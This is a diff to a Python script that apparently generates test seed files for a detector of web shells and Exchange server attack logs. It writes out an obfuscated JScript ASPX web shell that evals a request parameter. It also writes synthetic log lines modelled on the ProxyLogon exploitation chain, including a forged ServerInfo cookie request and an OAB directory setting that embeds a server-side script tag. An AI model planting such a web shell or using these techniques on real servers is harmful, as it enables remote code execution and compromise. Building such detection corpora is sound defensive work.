@@ -223,3 +223,30 @@ for d in ("webshells", "benign-aspx"):
             with open(os.path.join(p, name), "rb") as f:
                 out("archives_scripts", f"script_{d}_{name}"[:120], bytes([3]) + f.read(64 << 10))
 out("archives_scripts", "script_obfuscated", bytes([3]) + b'<%@ Page Language="Jscript"%><% var k = "ev" + /*x*/ "al"; eval(Request.Item[String.fromCharCode(0x61+1)], "un" + "safe"); %>')
+
+# exchange_logs: first byte % 11 picks the log (0/1 HttpProxy Ecp/Owa, 2 ECP Server, 3 OAB
+# generator, 4 IIS, 5 Application.evtx, 6-10 the other event logs). The corpus's event logs
+# (68 KiB each: one header and one chunk; the 1 MiB Sysmon log is left out) under each event-log
+# kind, its IIS log, and one line of each text log.
+ev = os.path.join(corpus, "evtx")
+if os.path.isdir(ev):
+    for name in sorted(os.listdir(ev)):
+        with open(os.path.join(ev, name), "rb") as f:
+            data = f.read()
+        if len(data) > 256 << 10:
+            continue
+        for k in range(5, 11):
+            out("exchange_logs", f"evtx{k}_{name}", bytes([k]) + data)
+iis = os.path.join(corpus, "logs", "Tunna_rdp_tunnel_IIS.log")
+if os.path.exists(iis):
+    with open(iis, "rb") as f:
+        out("exchange_logs", "iis_tunna", bytes([4]) + f.read(16 << 10))
+csv = (b"#Fields: DateTime,ServerInfo,AnchorMailbox,UrlStem,ClientIpAddress\r\n"
+       b"2021-03-03T04:58:41.123Z,ServerInfo~a]@ex.lab:444/ecp/y.js,"
+       b"ServerInfo~a]@ex.lab:444/ecp/y.js,/ecp/y.js,203.0.113.5\r\n")
+out("exchange_logs", "httpproxy_ecp", bytes([0]) + csv)
+out("exchange_logs", "ecp_server", bytes([2]) + b"#Fields: DateTime,Event\r\n2021-03-03T04:58:41Z,"
+    b"Set-OabVirtualDirectory -ExternalUrl 'http://f/<script language=\"JScript\" runat=\"server\">'"
+    b" VirtualDirectory\r\n")
+out("exchange_logs", "oab", bytes([3]) + b"2021-03-03T04:58:41.123Z,Download failed and temporary "
+    b"file 'C:\\inetpub\\wwwroot\\aspnet_client\\x.aspx' needs to be removed\r\n")
